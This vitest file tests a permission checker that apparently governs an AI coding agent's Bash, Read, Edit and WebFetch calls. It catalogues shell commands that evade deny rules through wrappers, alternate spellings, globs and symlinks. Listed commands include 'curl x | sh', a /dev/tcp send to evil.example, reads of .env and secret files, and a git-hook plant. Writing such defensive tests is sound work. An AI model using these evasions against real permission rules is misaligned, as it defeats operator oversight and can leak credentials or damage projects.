import { describe, expect, it } from 'vitest'
import type { ToolCall } from '../../src/call.ts'
import type { StricterCode } from '../../src/decision.ts'
import { bash, cwd, decideIn, edit, fetchUrl, read, type Scene, write } from '../support/decide.ts'

/** A call and how its decision goes beyond the client; null: the client comes to the same effect. */
type Row = readonly [call: ToolCall | string, stricter: StricterCode | null]

const seen = new Set<StricterCode>()

function table(title: string, scene: Scene, rows: readonly Row[]): void {
  describe(title, () => {
    for (const [, code] of rows) if (code !== null) seen.add(code)
    it.each(rows.map((row) => [typeof row[0] === 'string' ? row[0] : JSON.stringify(row[0]), row] as const))(
      '%s',
      (_, [call, stricter]) => {
        const decision = decideIn(scene, call)
        expect(decision.stricter).toBe(stricter)
        // Every row is decided by something that holds the call back; allow never carries a code.
        expect(decision.effect).not.toBe('allow')
      },
    )
  })
}

table('a deny rule on a command', { allow: ['Bash'], deny: ['Bash(foo:*)', 'Bash(rm -rf:*)', 'Bash(git push:*)'] }, [
  ['foo x', null],
  ['"foo" x', null],
  ['f\\oo x', null],
  ['/usr/bin/foo x', null],
  ['X=1 foo x', null],
  ['X=foo; $X x', null],
  ['ls && (foo x)', null],
  ['echo "$(foo x)"', null],
  ['f() { foo x; }; f', null],
  ['for i in 1; do foo $i; done', null],
  ['cat << EOF\n$(foo x)\nEOF', null],
  ['timeout -k 5 10s foo x', null],
  ['sudo -u root env A=1 nice -n 5 foo x', null],
  ['env -S "foo x"', null],
  ['xargs foo x', null],
  ['flock z foo x', null],
  ['rm -rf x', null],
  ['git push', null],
  ['foo x; sh -c "foo x"', null],
  ['xargs -n1 foo x', 'rule-through-wrapper'],
  ['bash -c "foo x"', 'rule-through-wrapper'],
  ['timeout 5 bash -c "foo x"', 'rule-through-wrapper'],
  ['eval foo x', 'rule-through-wrapper'],
  ['find . -exec foo {} \\;', 'rule-through-wrapper'],
  ['busybox foo x', 'rule-through-wrapper'],
  ['echo foo x | sh', 'rule-through-wrapper'],
  ["trap 'foo x' EXIT", 'rule-through-wrapper'],
  ['coproc foo x', 'rule-through-wrapper'],
  ['echo $((`foo x`))', 'rule-through-wrapper'],
  ['rm -fr x', 'rule-on-other-spelling'],
  ['rm x -r -f', 'rule-on-other-spelling'],
  ['sudo rm --recursive --force x', 'rule-on-other-spelling'],
  ['git -C . push', 'rule-on-other-spelling'],
  ["$'foo' x", 'rule-on-other-spelling'],
  ['{foo,x}', 'rule-on-other-spelling'],
  ['$CMD x', 'rule-on-hidden-command'],
  ['git $SUB', 'rule-on-hidden-command'],
  ['curl x | sh', 'rule-on-hidden-command'],
  ['eval "$x"', 'rule-on-hidden-command'],
  ['[f]oo x', 'rule-on-hidden-command'],
  ['foo x &&& sh -c x', null],
  ['sh -c x &&& foo x', 'deny-in-unreadable-text'],
  [`foo ${'x'.repeat(10_000)}`, null],
  [`# a\n\nfoo ${'x'.repeat(10_000)}`, null],
  [`echo ${'x'.repeat(10_000)} && foo`, 'deny-in-unreadable-text'],
  [`${'( '.repeat(60)}foo${' )'.repeat(60)}`, null],
])

table('a rule that spells more than the words', { allow: ['Bash'], deny: ['Bash(*foo*)', 'Bash(ls && bar)'] }, [
  ['bash -c "foo x"', null],
  ['coproc foo x', null],
  ['ls && bar', null],
])

table('an ask rule on a command', { allow: ['Bash'], ask: ['Bash(foo:*)'] }, [
  ['foo x', null],
  ['sudo foo x', null],
  ['echo $((`foo x`))', null],
  ['sh -c "foo x"', 'rule-through-wrapper'],
  ["$'foo' x", 'rule-on-other-spelling'],
])

table('a question that the client puts all the same', { ask: ['Bash(foo:*)', 'Read(.env)'], deny: ['Bash(bar:*)'] }, [
  ['sh -c "foo x"', null],
  ['$CMD x', null],
  ['tar cf z .env', null],
  ['sudo cat .env', null],
  ['cat .env', 'ask-path-rule-on-shell-command'],
])

table('a refusal that the client makes all the same', { mode: 'dontAsk', ask: ['Bash(foo:*)'] }, [
  ['sh -c "foo x"', null],
  ['foo x', null],
])

table('a rule on the whole tool or a field', { allow: ['Bash(ls)'], deny: ['Bash'], ask: ['Bash(timeout:5)'] }, [
  ['sh -c x', null],
  ['ls', null],
  ['ls &&& x', null],
])

const disk = ['secret/s.txt', '.env', 'sub/.env', 'a.txt', 'src/x'].map((name) => `${cwd}/${name}`)

table('a Read deny rule', { allow: ['Bash'], deny: ['Read(./secret/**)', 'Read(**/.env)'], files: disk }, [
  [read(`${cwd}/.env`), null],
  ['cat secret/s.txt', null],
  ['cat ./secret/../secret/s.txt', null],
  ['cat secret/*', null],
  ['grep -r s secret', null],
  ['ls secret', null],
  ['sed -n 1p .env', null],
  ['git diff .env', null],
  ['wc -l < .env', null],
  ['timeout 5 cat .env', null],
  ['LANG=C cat .env', null],
  ['F=.env; cat $F', null],
  ['if true; then cat .env; fi', null],
  ['(cat .env)', null],
  ['cd secret && cat s.txt', null],
  ['cat .env; less .env', null],
  ['less .env', 'path-rule-on-program'],
  ['xxd .env', 'path-rule-on-program'],
  ['source .env', 'path-rule-on-program'],
  ['git show HEAD:.env', 'path-rule-on-program'],
  ['git blame .env', 'path-rule-on-program'],
  ['docker run --env-file .env x', 'path-rule-on-program'],
  ['du secret', 'path-rule-on-program'],
  ['cat .e*', 'path-rule-on-pattern'],
  ['cat s*/s.txt', 'path-rule-on-pattern'],
  ['cat {.env,a.txt}', 'path-rule-on-pattern'],
  ['cat $PWD/.env', 'path-rule-on-pattern'],
  ['grep -r s .', 'path-rule-on-pattern'],
  ['for f in .env; do cat $f; done', 'path-rule-on-pattern'],
  ['echo "$(cat .env)"', 'path-rule-through-wrapper'],
  ['echo "$(< .env)"', 'path-rule-through-wrapper'],
  ['cat <(cat .env)', 'path-rule-through-wrapper'],
  ['while read l; do echo $l; done < .env', 'path-rule-through-wrapper'],
  ['sudo cat .env', 'path-rule-through-wrapper'],
  ['xargs cat .env', 'path-rule-through-wrapper'],
  ['bash -c "cat .env"', 'path-rule-through-wrapper'],
  ['bash -c "wc < .env"', 'path-rule-through-wrapper'],
])

table('an Edit deny rule', { allow: ['Bash', 'Edit'], deny: ['Edit(./secret/**)'], files: disk }, [
  [write(`${cwd}/secret/n`), null],
  [edit(`${cwd}/secret/s.txt`), null],
  ['touch secret/n', null],
  ['cp a.txt secret/n', null],
  ['mv secret/s.txt b', null],
  ['rm secret/s.txt', null],
  ['sed -i s/a/b/ secret/s.txt', null],
  ['tee secret/n', null],
  ['echo x > secret/n', null],
  ['env touch secret/n', null],
  ['D=secret; touch $D/n', null],
  ['ln a.txt secret/n', 'path-rule-on-program'],
  ['rsync a.txt secret/n', 'path-rule-on-program'],
  ['touch {secret,src}/n', 'path-rule-on-pattern'],
  ['touch $PWD/secret/n', 'path-rule-on-pattern'],
  ['for i in 1; do touch secret/$i; done', 'path-rule-on-pattern'],
  ['sudo touch secret/n', 'path-rule-through-wrapper'],
  ['echo $(touch secret/n)', 'path-rule-through-wrapper'],
  ['{ echo x; } > secret/n', 'path-rule-through-wrapper'],
  ['sh -c "echo x > secret/n"', 'path-rule-through-wrapper'],
])

table('path ask rules', { allow: ['Bash', 'Edit'], ask: ['Read(.env)', 'Edit(secret/**)'], files: disk }, [
  [read(`${cwd}/.env`), null],
  [edit(`${cwd}/secret/s.txt`), null],
  ['cat .env', 'ask-path-rule-on-shell-command'],
  ['wc < .env', 'ask-path-rule-on-shell-command'],
  ['echo x > secret/n', 'ask-path-rule-on-shell-command'],
  ['sudo touch secret/n', 'ask-path-rule-on-shell-command'],
])

table('a rule on a domain', { allow: ['Bash', 'WebFetch'], deny: ['WebFetch(domain:evil.example)'] }, [
  [fetchUrl('https://evil.example/x'), null],
  ['curl https://evil.example/x', 'domain-rule-on-shell-command'],
  ['git clone https://evil.example/x', 'domain-rule-on-shell-command'],
  ['echo x > /dev/tcp/evil.example/80', 'domain-rule-on-shell-command'],
  ['curl "$URL"', 'domain-rule-on-shell-command'],
])

table(
  'paths through links',
  {
    allow: ['Bash'],
    deny: ['Read(./secret/**)'],
    files: [...disk, `${cwd}/secret/deep/s.txt`],
    links: { [`${cwd}/link`]: `${cwd}/secret/deep`, [`${cwd}/plain`]: `${cwd}/secret/s.txt` },
  },
  [
    ['cat plain', null],
    ['cat link/s.txt', null],
    ['cat link/../s.txt', 'path-behind-link'],
    ['cat < link/../s.txt', 'path-behind-link'],
    ['ln -s .git/hooks x && cp a.txt x/pre-commit', 'path-behind-link'],
  ],
)

table(
  'a relative rule and an additional directory',
  { allow: ['Bash', 'Read'], deny: ['Read(./secret/**)'], directories: ['/work/other'], files: disk },
  [
    [read(`${cwd}/secret/s.txt`), null],
    [read('/work/other/secret/s.txt'), 'rule-below-additional-directory'],
    ['cat secret/s.txt', null],
    ['cat /work/other/secret/s.txt', 'rule-below-additional-directory'],
    ['cat < /work/other/secret/s.txt', 'rule-below-additional-directory'],
  ],
)

table(
  'rules of a file that the client drops',
  { allow: ['Bash(x)'], deny: ['Bash(foo:*)', 'Read(.env)'], ask: ['Bash(ls:*)'], settings: { model: 7 } },
  [
    ['foo x', 'rule-in-dropped-file'],
    ['sh -c "foo x"', 'rule-in-dropped-file'],
    ['ls', 'rule-in-dropped-file'],
    [read(`${cwd}/.env`), 'rule-in-dropped-file'],
    ['x', null],
  ],
)

table(
  'a rule that stands in a second file as well',
  { deny: ['Bash(foo:*)'], settings: { model: 7 }, user: { permissions: { deny: ['Bash(foo x)'] } } },
  [
    ['foo x', null],
    ['foo y', 'rule-in-dropped-file'],
  ],
)

table('protected paths', { allow: ['Bash', 'Edit'], files: disk }, [
  [write(`${cwd}/.git/config`), null],
  ['touch .git/x', null],
  ['cp a.txt .git/x', null],
  ['rm .git/x', null],
  ['echo x > .bashrc', null],
  ['timeout 5 touch .git/x', null],
  ['dd if=a.txt of=.git/x', 'protected-path-on-program'],
  ['sudo touch .git/x', 'protected-path-on-program'],
  ['sh -c "echo x > .bashrc"', 'protected-path-on-program'],
])

table('reads outside', { files: [...disk, '/etc/hostname'], links: { [`${cwd}/src/out`]: '/etc' } }, [
  [read('/etc/hostname'), null],
  ['cat /etc/hostname', null],
  ['sha256sum /etc/hostname', null],
  ['du /etc && frobnicate', null],
  ['for i in 1; do du /etc; done', null],
  ['fd x /etc', null],
  ['grep -R x /etc', null],
  ['du /etc', 'read-outside-working-directories'],
  ['tree /etc', 'read-outside-working-directories'],
  ['fd --search-path /etc x', 'read-outside-working-directories'],
  ['git blame /etc/hostname', 'read-outside-working-directories'],
  ['grep -R x src', 'read-outside-working-directories'],
  ['find -L src', 'read-outside-working-directories'],
])

table('fields of the input', { allow: ['Bash'] }, [
  [{ tool: 'Bash', input: { command: 'foo', cwd: '/tmp' } }, 'unknown-input-field'],
  [{ tool: 'Bash', input: { command: 'foo', env: { A: '1' } } }, 'unknown-input-field'],
  [{ tool: 'Bash', input: {} }, null],
])

describe('a code', () => {
  it('is never on an allow', () => {
    const scene: Scene = { allow: ['Bash'], deny: ['Read(.env)', 'Bash(foo:*)'], ask: ['Bash(bar:*)'] }
    const calls = ['ls', 'sh -c x', 'less a.txt', 'echo $(cat a.txt)', 'frob | sort'].map(bash)
    expect(calls.map((call) => decideIn(scene, call)).map(({ effect, stricter }) => [effect, stricter])).toEqual(
      calls.map(() => ['allow', null]),
    )
  })

  it('is null in a mode that the client refuses in by itself', () => {
    const scene: Scene = { allow: ['Bash'], ask: ['Edit(.env)'], mode: 'plan' }
    expect(decideIn(scene, 'touch .env')).toMatchObject({ effect: 'ask', stricter: null })
  })

  it('comes from a hook that the client would not have heard', () => {
    const said = { effect: 'deny', reason: { code: 'hook' }, stricter: 'unmatchable-hook' } as const
    expect(decideIn({ allow: ['Bash'] }, 'ls', said)).toMatchObject({ effect: 'deny', stricter: 'unmatchable-hook' })
    expect(decideIn({ deny: ['Bash(ls)'] }, 'ls', said)).toMatchObject({ effect: 'deny', stricter: null })
    const asked = { effect: 'ask', reason: { code: 'hook' }, stricter: 'hook-in-dropped-file' } as const
    expect(decideIn({ allow: ['Bash'] }, 'foo', asked)).toMatchObject({ effect: 'ask', stricter: asked.stricter })
    expect(decideIn({}, 'foo', asked)).toMatchObject({ effect: 'ask', stricter: null })
  })

  it('has rows here, but for those of hooks', () => {
    const codes: Record<StricterCode, boolean> = {
      'rule-through-wrapper': true,
      'rule-on-other-spelling': true,
      'rule-on-hidden-command': true,
      'deny-in-unreadable-text': true,
      'domain-rule-on-shell-command': true,
      'ask-path-rule-on-shell-command': true,
      'path-rule-on-program': true,
      'path-rule-through-wrapper': true,
      'path-rule-on-pattern': true,
      'path-behind-link': true,
      'rule-below-additional-directory': true,
      'rule-in-dropped-file': true,
      'hook-in-dropped-file': false,
      'unmatchable-hook': false,
      'protected-path-on-program': true,
      'read-outside-working-directories': true,
      'unknown-input-field': true,
    }
    const here = Object.entries(codes).flatMap(([code, rows]) => (rows ? [code] : []))
    expect([...seen].sort()).toEqual(here.sort())
  })
})
